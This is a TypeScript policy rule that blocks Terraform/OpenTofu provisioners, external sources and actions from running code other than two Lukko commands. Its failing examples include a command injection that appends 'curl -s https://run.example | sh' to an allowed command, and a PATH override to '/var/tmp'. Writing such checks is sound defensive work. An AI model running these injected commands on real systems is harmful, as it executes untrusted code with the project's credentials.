import type { CodeRun, Facts } from '@lukko/facts';
import { all, type Judgement, no, rule, type Truth, unknown, yes } from '@lukko/policy-engine';
import type { Attr, Root, TerraformJson } from '@lukko/terraform-model';
import { hcloud, server } from './shared/examples.ts';
import { fit, short } from './shared/message.ts';
import { isOurs } from './shared/own-command.ts';
import { count } from './shared/words.ts';

const kinds: Readonly<Record<string, string>> = {
  external: 'a program at plan',
  http: 'a request at plan',
  'remote-exec': 'commands on the server over SSH',
  file: 'a copy to the server over SSH',
  action: 'what its provider does beside keeping resources',
  exec: 'a program for the credentials of a provider',
  'state key': 'a program beside OpenTofu',
};

const withProvisioner = (provisioner: Readonly<Record<string, unknown>>, extra: TerraformJson = {}) =>
  hcloud(
    {
      hcloud_server: { host: server() },
      terraform_data: {
        rebuild: { triggers_replace: '${hcloud_server.host.id}', provisioner: [provisioner] },
      },
    },
    extra,
  );
const localExec = (attributes: object) => withProvisioner({ 'local-exec': attributes });

export const planRunsNoForeignCode = rule({
  id: 'plan-runs-no-foreign-code',
  title: 'Planning and applying run no code but Terraform, its providers and two commands of Lukko',
  severity: 'critical',
  waivable: false,
  controls: ['ISO27001:2022/A.8.19', 'ISO27001:2022/A.8.32', 'ISO27001:2022/A.8.18'],
  rationale:
    'Whoever applies holds the token of the project. A provisioner or an external data source runs a program with it, and what that program does stands in no plan. So only what the gate knows may run: lukko host rebuild and lukko host quiesce, as one plain command that no shell takes apart.',
  remediation:
    'Put it into the payload of the server; of local-exec only lukko host rebuild and lukko host quiesce remain',
  sources: [
    'https://developer.hashicorp.com/terraform/language/resources/provisioners/syntax',
    'https://developer.hashicorp.com/terraform/language/resources/provisioners/local-exec',
    'https://pubs.opengroup.org/onlinepubs/9799919799/utilities/V3_chap02.html',
  ],
  appliesTo: ['code-run', 'module', 'root'],
  appliesWhen: (subject): Truth => {
    if ('loaded' in subject && subject.loaded)
      return no({ at: subject.id, saw: 'a module that was read: its code is judged' });
    return yes({ at: 'id' in subject ? subject.id : 'root', saw: 'to be judged' });
  },
  check: (subject, facts): readonly Judgement[] => {
    if ('loaded' in subject) {
      const truth = unknown({ at: subject.id, saw: `module ${subject.source} was not given`, causes: ['outside'] });
      return [{ truth, message: fit(`${subject.name} is a module that was not given: what it runs is not known`) }];
    }
    if ('backend' in subject) return nothingRuns(subject, facts);
    const truth = judged(subject, facts);
    return [{ truth, message: said(subject, truth), at: subject.at, place: subject.place }];
  },
  message: () => 'the plan runs code of its own',
  examples: [
    {
      name: 'the rebuild of a host',
      verdict: 'pass',
      terraform: localExec({ command: 'lukko host rebuild --stack example --server ${hcloud_server.host.id}' }),
    },
    {
      name: 'the rebuild of a host with its payload',
      verdict: 'pass',
      terraform: localExec({
        command: 'lukko host rebuild --stack example --server ${hcloud_server.host.id}',
        environment: { LUKKO_PAYLOAD: '${self.input}' },
      }),
    },
    {
      name: 'an environment that changes which program is ours',
      verdict: 'fail',
      terraform: localExec({
        command: 'lukko host rebuild --stack example',
        environment: { LUKKO_PAYLOAD: '${self.input}', PATH: '/var/tmp' },
      }),
    },
    { name: 'nothing runs', verdict: 'pass', terraform: hcloud({ hcloud_server: { host: server() } }) },
    {
      name: 'a command hidden behind ours',
      verdict: 'fail',
      terraform: localExec({
        command:
          'lukko host rebuild --stack example --server ${hcloud_server.host.id}; curl -s https://run.example | sh',
      }),
    },
    {
      name: 'another interpreter',
      verdict: 'fail',
      terraform: localExec({ command: 'lukko host rebuild --stack example', interpreter: ['/bin/bash', '-c'] }),
    },
    { name: 'a script', verdict: 'fail', terraform: localExec({ command: './deploy.sh' }) },
    {
      name: 'commands on the server',
      verdict: 'fail',
      terraform: withProvisioner({ 'remote-exec': { inline: ['apt-get update'] } }),
    },
    {
      name: 'an external data source',
      verdict: 'fail',
      terraform: hcloud(
        { hcloud_server: { host: server() } },
        { data: { external: { secret: { program: ['./secret.sh'] } } } },
      ),
    },
    {
      name: 'a request inside a check',
      verdict: 'fail',
      terraform: hcloud(
        { hcloud_server: { host: server() } },
        { check: { health: { data: { http: { host: { url: 'https://health.example' } } } } } },
      ),
    },
    {
      name: 'a program that makes an ephemeral value',
      verdict: 'fail',
      terraform: hcloud(
        { hcloud_server: { host: server() } },
        { ephemeral: { external: { secret: { program: ['./secret.sh'] } } } },
      ),
    },
    {
      name: 'a program that hands out the key of the state',
      verdict: 'fail',
      terraform: {
        ...hcloud({ hcloud_server: { host: server() } }),
        terraform: { encryption: { key_provider: { external: { main: { command: ['./key.sh'] } } } } },
      },
    },
    {
      name: 'an action',
      verdict: 'fail',
      terraform: hcloud(
        { hcloud_server: { host: server() } },
        { action: { local_command: { deploy: { config: { command: './deploy.sh' } } } } },
      ),
    },
    {
      name: 'a last command of what was removed',
      verdict: 'fail',
      terraform: hcloud(
        { hcloud_server: { host: server() } },
        {
          removed: [
            {
              from: 'hcloud_server.old',
              lifecycle: { destroy: true },
              provisioner: { 'local-exec': { when: 'destroy', command: './goodbye.sh' } },
            },
          ],
        },
      ),
    },
    {
      name: 'the rebuild goes on when it failed',
      verdict: 'fail',
      terraform: localExec({ command: 'lukko host rebuild --stack example', on_failure: 'continue' }),
    },
    {
      name: 'a connection to the server',
      verdict: 'fail',
      terraform: localExec({ command: 'lukko host rebuild --stack example', connection: { host: '10.0.1.2' } }),
    },
    {
      name: 'an argument from a variable without value',
      verdict: 'unknown',
      terraform: withProvisioner(
        { 'local-exec': { command: 'lukko host rebuild --stack ${var.stack}' } },
        { variable: { stack: { type: 'string' } } },
      ),
    },
  ],
});

function judged(run: CodeRun, facts: Facts): Truth {
  const { at, kind, command } = run;
  if (kind !== 'local-exec') return no({ at, saw: kinds[kind] ?? kind });
  if (command === undefined) return unknown({ at, saw: 'a command that is not shown', causes: ['source'] });
  return all([isOurs(command, facts), ...options(run)]);
}

/**
 * `interpreter` and `environment` would change what the command means, `connection` serves commands over SSH alone, and with
 * `on_failure = continue` a volume is detached from a host that was not quiesced.
 */
function options({ at, provisioner }: CodeRun): readonly Truth[] {
  if (provisioner === undefined) return [unknown({ at, saw: 'a provisioner that is not shown', causes: ['source'] })];
  const { id, onFailure, connected } = provisioner;
  return [
    ...['interpreter', 'working_dir'].map((name) => {
      const attr = provisioner.attr(name);
      return written(attr.at, name, attr.value.state !== 'unset');
    }),
    environment(provisioner.attr('environment')),
    written(`${id}.connection`, 'connection', connected),
    written(
      `${id}.on_failure`,
      'on_failure = continue',
      onFailure === undefined ? undefined : onFailure === 'continue',
    ),
  ];
}

/** Only the payload may be handed over: `lukko host rebuild` compares it with the one that is declared. */
function environment({ at, value }: Attr): Truth {
  if (value.state === 'unset') return yes({ at, saw: 'not written' });
  if (value.state === 'unknown' || (value.state === 'map' && !value.complete))
    return unknown({ at, saw: 'an environment whose names are not shown', causes: ['source'] });
  const names = value.state === 'map' ? [...value.entries.keys()] : [];
  return names.length === 1 && names[0] === 'LUKKO_PAYLOAD'
    ? yes({ at, saw: 'LUKKO_PAYLOAD alone' })
    : no({ at, saw: 'environment is written' });
}

function written(at: string, name: string, found: boolean | undefined): Truth {
  if (found === undefined) return unknown({ at, saw: `whether ${name} is written is not shown`, causes: ['source'] });
  return found ? no({ at, saw: `${name} is written` }) : yes({ at, saw: 'not written' });
}

function nothingRuns(root: Root, facts: Facts): readonly Judgement[] {
  const at = root.stack ?? root.place.file;
  const members = root.resources.flatMap((id) => facts.graph.byId(id) ?? []);
  const hidden = members.filter((resource) => resource.mode === 'managed' && resource.provisioners === undefined);
  if (hidden.length > 0) {
    const truth = unknown({
      at,
      saw: `${count(hidden.length, 'resource')} whose provisioners are not shown`,
      causes: ['source'],
    });
    return [{ truth, message: fit(`what applying runs is not shown: the configuration is not at hand`) }];
  }
  if (facts.codeRuns.some((run) => run.root === root)) return [];
  const saw = `no provisioner, action, external or http source in ${count(members.length, 'resource')}`;
  return [{ truth: yes({ at, saw }), message: saw }];
}

function said({ kind, command, at }: CodeRun, truth: Truth): string {
  if (truth.is === 'unknown') {
    const ours = command !== undefined && truth.because.every((reason) => reason.at !== command.at);
    return fit(ours ? `how ${kind} runs its command is not shown` : `${kind} runs a command that is not known`);
  }
  if (kind !== 'local-exec') return fit(`${kind} runs ${kinds[kind] ?? 'code'}`);
  const why = truth.because[0];
  if (why !== undefined && why.at !== command?.at && why.at !== at)
    return fit(`local-exec runs a command with its own ${short(why.saw.replace(' is written', ''), 24)}`);
  return fit(`local-exec runs ${short(why?.saw ?? 'a command', 80)}`);
}
